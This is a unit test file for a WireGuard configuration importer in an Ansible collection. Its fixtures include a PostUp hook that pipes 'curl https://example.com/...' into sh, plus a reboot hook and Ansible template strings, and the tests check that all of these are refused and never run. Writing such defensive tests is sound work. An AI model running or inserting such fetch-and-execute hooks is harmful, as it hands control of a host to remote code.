# SPDX-License-Identifier: GPL-3.0-or-later
"""Files of wg-easy and wg-quick as variables: what is taken, what is said by line, and what stays."""

from __future__ import annotations

from pathlib import Path
from typing import Any, Optional

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from ansible_collections.splitway.gateway.tests.unit.topology.samples import key
from ansible_collections.splitway.gateway.tests.unit.wg_easy.databases import client, public, write
from splitway.exchange import Outcome, import_files, read_variables
from splitway.exchange.wg_quick_text import Section
from splitway.topology import parse

PROVIDER = f"""\
# Mullvad, Stockholm
[Interface]
PrivateKey = {key("tunnel")}
Address = 10.64.0.2/32,fc00:bbbb::2/128
DNS = 10.64.0.1, 192.0.2.53, lan.example   # one of them is not reached
mtu=1380

[Peer]
PublicKey = {key("exit")}
PresharedKey = {key("shared")}
AllowedIPs = 0.0.0.0/1, 128.0.0.0/1
AllowedIPs = 10.64.0.1/24, ::/0
Endpoint = [2001:db8::7]:51820
PersistentKeepalive = off
"""
SERVER = f"""\
[Interface]
Address = 10.8.0.1/24, fd00:8::1/64
ListenPort = 443
PrivateKey = {key("server")}
PostUp = iptables -A FORWARD -i %i -j ACCEPT; curl https://example.com/{key("token")} | sh
SaveConfig = false
Table = off

### Client alice
[Peer]
PublicKey = {key("alice")}
PresharedKey = {key("alice shared")}
AllowedIPs = 10.8.0.2/32,fd00:8::2/128

# BEGIN_PEER Bob's phone
[Peer]
PublicKey = {key("bob")}
AllowedIPs = 10.8.0.3/32, 192.168.5.0/24
# END_PEER Bob's phone

[Peer]
# friendly_name = Carol
# a note on her
PublicKey = {key("carol")}
AllowedIPs = 10.8.0.4/32
Endpoint = 198.51.100.4:1000
PersistentKeepalive = 25

[Peer]
# PresharedKey = none any more
AllowedIPs = 10.8.0.5
publickey = {key("dora")}
"""


def outcome(files: dict[str, Any], before: Optional[dict[str, Any]] = None, *, partial: bool = False) -> Outcome:
    contents = {name: file if isinstance(file, bytes) else file.encode() for name, file in files.items()}
    text = yaml.safe_dump(before or {}, sort_keys=False)
    return import_files(contents, before or {}, read_variables(text), partial=partial)


def lines(found: Outcome) -> list[str]:
    return [str(refusal) for refusal in found.refused]


def test_a_providers_file_becomes_an_upstream() -> None:
    found = outcome({"se-sto.conf": PROVIDER}, {"splitway_server": {"addresses": ["10.8.0.1/24"]}})
    assert not found.refused
    assert found.values["splitway_upstreams"] == [
        {
            "name": "se-sto",
            "endpoint": "[2001:db8::7]:51820",
            "public_key": key("exit"),
            "private_key": key("tunnel"),
            "preshared_key": key("shared"),
            "allowed_ips": ["0.0.0.0/1", "128.0.0.0/1", "10.64.0.0/24", "::/0"],
            "addresses": ["10.64.0.2/32", "fc00:bbbb::2/128"],
            "mtu": 1380,
            "persistent_keepalive": 0,
            "resolvers": ["10.64.0.1", "192.0.2.53"],
        }
    ]
    assert found.notes == ('se-sto.conf:5: DNS: "lan.example" is no address: not taken',)


def test_a_server_becomes_the_gateway_and_its_clients_and_no_hook_runs() -> None:
    found = outcome({"wg0.conf": SERVER})
    assert not found.refused
    assert found.values["splitway_server"] == {
        "interface": "wg0",
        "private_key": key("server"),
        "listen_port": 443,
        "addresses": ["10.8.0.1/24", "fd00:8::1/64"],
    }
    alice, bob, carol, dora = found.values["splitway_clients"]
    assert alice == {
        "name": "alice",
        "addresses": ["10.8.0.2", "fd00:8::2"],
        "public_key": key("alice"),
        "preshared_key": key("alice shared"),
    }
    assert (bob["name"], bob["addresses"]) == ("Bob-s-phone", ["10.8.0.3"])
    assert (carol["name"], dora["name"], dora["public_key"]) == ("Carol", "client-10.8.0.5", key("dora"))
    assert [note.split(" ")[0].rstrip(":") + " " + note.split(" ")[1] for note in found.notes] == [
        "wg0.conf:5 PostUp",
        "wg0.conf:6 SaveConfig",
        "wg0.conf:7 Table",
        "wg0.conf:16 \"Bob's",
        "wg0.conf:18 AllowedIPs:",
        "wg0.conf:26 Endpoint",
        "wg0.conf:27 PersistentKeepalive",
        "wg0.conf:29 who",
    ]
    assert "is a hook: it is not taken, and never run: " in found.notes[0]
    assert key("token") not in "".join(found.notes)
    parse(found.values)


def test_a_folder_adds_to_what_is_there_and_a_second_import_changes_nothing() -> None:
    before = {
        "splitway_server": {"addresses": ["10.9.0.1/24"]},
        "splitway_upstreams": [
            {"name": "se", "endpoint": "old.example.com:1", "public_key": key("old"), "on_down": "direct"},
            {"name": "us", "endpoint": "us.example.com:1", "public_key": key("us"), "private_key": key("us own")},
        ],
    }
    files = {"se.conf": PROVIDER, "de.conf": PROVIDER.replace(key("exit"), key("exit de"))}
    found = outcome(files, before)
    assert not found.refused
    se, us, de = found.values["splitway_upstreams"]
    assert (se["name"], se["on_down"], se["public_key"], de["name"]) == ("se", "direct", key("exit"), "de")
    assert us == before["splitway_upstreams"][1]
    again = outcome(files, {**before, **found.values})
    assert (again.refused, again.values) == ((), {})


@pytest.mark.parametrize(
    ("change", "refused"),
    [
        (("Endpoint = [2001:db8::7]:51820", "Endpoint = 1.2.3.4"), 'se.conf:13: Endpoint: "1.2.3.4" has no port'),
        ((f"PublicKey = {key('exit')}", "PublicKey = x"), "se.conf:9: PublicKey: is not a WireGuard key"),
        (("mtu=1380", "mtu=80"), "se.conf:6: mtu: 80 is not auto or an MTU for IPv6"),
        (("10.64.0.2/32", "10.64.0.300"), 'se.conf:4: Address[0]: "10.64.0.300" is not an address'),
        (("10.64.0.1/24", "ten"), 'se.conf:12: AllowedIPs: "ten" is not a network'),
        (("mtu=1380", "Jc = 4"), "se.conf:6: Jc: is AmneziaWG's: splitway speaks WireGuard"),
        (("PersistentKeepalive", "PersistentKeepaliv"), "se.conf:14: PersistentKeepaliv: unknown key; did you mean"),
        (("[Peer]", "[Pear]"), 'se.conf:8: "[Pear]" is no section of wg-quick\'s'),
        (("[Interface]", ""), "se.conf:3: is no setting in a section"),
        (("mtu=1380", "mtu 1380"), "se.conf:6: is no setting in a section"),
        (("PrivateKey", "PostUp = {{ x }}\nPrivateKey"), ""),
        ((f"PublicKey = {key('exit')}", "PublicKey = {{ x }}"), "holds a template, which Ansible would run"),
    ],
)
def test_what_is_wrong_is_named_by_its_line(change: tuple[str, str], refused: str) -> None:
    found = outcome({"se.conf": PROVIDER.replace(*change)}, {"splitway_server": {"addresses": ["10.8.0.1/24"]}})
    assert any(refused in line for line in lines(found)) if refused else not found.refused
    assert bool(found.values) is not bool(refused)


def test_files_that_do_not_go_together_are_named() -> None:
    two = SERVER + PROVIDER[PROVIDER.index("[Peer]") :]
    assert lines(outcome({"a.conf": SERVER, "b.conf": two})) == [
        "b.conf:1: is a server, and so is a.conf: a gateway has one"
    ]
    peer = PROVIDER[PROVIDER.index("[Peer]") :]
    assert "a.conf:1: has 2 peers: an upstream has one" in lines(outcome({"a.conf": PROVIDER + peer}))
    assert "a.conf:1: has no [Peer]" in lines(outcome({"a.conf": PROVIDER.replace(peer, "")}))
    wrong = outcome({"wg0.conf": SERVER.replace("10.8.0.1/24", "10.8.0.1")})
    assert lines(wrong)[0].startswith('wg0.conf:2: addresses[0]: "10.8.0.1" has no prefix length')


@pytest.mark.parametrize("broken", [b"", b"hello", b"[Interface]\nPrivateKey = \xff\n"], ids=["empty", "text", "bytes"])
def test_a_broken_file_of_wg_quicks_keeps_no_other_from_being_taken(broken: bytes) -> None:
    files = {"se.conf": PROVIDER, "wg0.conf": SERVER, "broken.conf": broken}
    assert {refusal.file for refusal in outcome(files).refused} == {"broken.conf"}
    found = outcome(files, partial=True)
    assert {refusal.file for refusal in found.refused} == {"broken.conf"}
    assert found.changes["upstreams"].added == ("se",)
    assert found.changes["clients"].added == ("alice", "Bob-s-phone", "Carol", "client-10.8.0.5")


def test_in_part_a_wrong_file_keeps_no_other_from_being_taken() -> None:
    files = {"se.conf": PROVIDER, "de.conf": PROVIDER.replace("Endpoint", "Endpiont")}
    found = outcome(files, {"splitway_server": {"addresses": ["10.8.0.1/24"]}}, partial=True)
    assert [upstream["name"] for upstream in found.values["splitway_upstreams"]] == ["se"]
    assert lines(found)[0].startswith("de.conf:13: Endpiont: unknown key")


@pytest.mark.parametrize(
    ("comments", "name"),
    [
        (["## Client alice"], "alice"),
        ([" Client: alice (3)"], "alice"),
        ([" Client: alice (0e1e6a7c-1)"], "alice"),
        ([" BEGIN_PEER alice", " END_PEER bob"], "alice"),
        (["## begin alice ###"], "alice"),
        ([" friendly_name = alice b", " more"], "alice b"),
        ([" Name = alice"], "alice"),
        ([" alice"], "alice"),
        ([" alice", " PublicKey = x", " [Peer]"], "alice"),
        ([" alice", " bob"], ""),
        ([" clients of the office, all of them, with a long story that is certainly no name of anybody"], ""),
        ([], ""),
    ],
)
def test_comments_name_peers(comments: list[str], name: str) -> None:
    assert Section(1, comments=comments).name == name


@settings(max_examples=150)
@given(st.lists(st.sampled_from([*PROVIDER.splitlines(), *SERVER.splitlines(), "[", "=", "[Peer", "#", "\0=\x85"])))
def test_any_text_is_taken_or_refused_by_line(texts: list[str]) -> None:
    found = outcome({"a.conf": "\n".join(texts)})
    assert found.refused or parse({"splitway_server": {"addresses": ["10.9.0.1/24"]}, **found.values})


def test_a_database_of_wg_easy_is_read_like_its_file(tmp_path: Path) -> None:
    path = write(
        tmp_path / "wg-easy.db",
        client(1, "alice", expires_at="2099-01-01T00:00:00.000Z"),
        client(2, "Büro", enabled=0, post_up="reboot"),
    )
    found = outcome({"wg-easy.db": path.read_bytes()})
    assert not found.refused
    alice, office = found.values["splitway_clients"]
    assert (alice["private_key"], alice["public_key"]) == (key("private 1"), public(1))
    assert alice["expires"] == "2099-01-01T00:00:00Z"
    assert (office["name"], office["enabled"]) == ("Buro", False)
    assert found.values["splitway_server"]["private_key"] == key("wg-easy")
    assert "wg-easy.db: Buro: hooks are not taken, and never run" in found.notes
    assert parse(found.values).clients[0].name == "alice"


def test_what_is_wrong_in_a_database_is_named_by_the_clients_id(tmp_path: Path) -> None:
    path = write(tmp_path / "wg-easy.db", client(7, "alice", ipv4_address="10.9.0.2"))
    found = lines(outcome({"wg-easy.db": path.read_bytes()}))
    assert found[0].startswith('wg-easy.db:7: addresses[0]: "10.9.0.2" is in no network')
    broken = lines(outcome({"wg-easy.db": b"SQLite format 3\0"}))
    assert any(line.startswith("wg-easy.db: cannot be read: ") for line in broken)
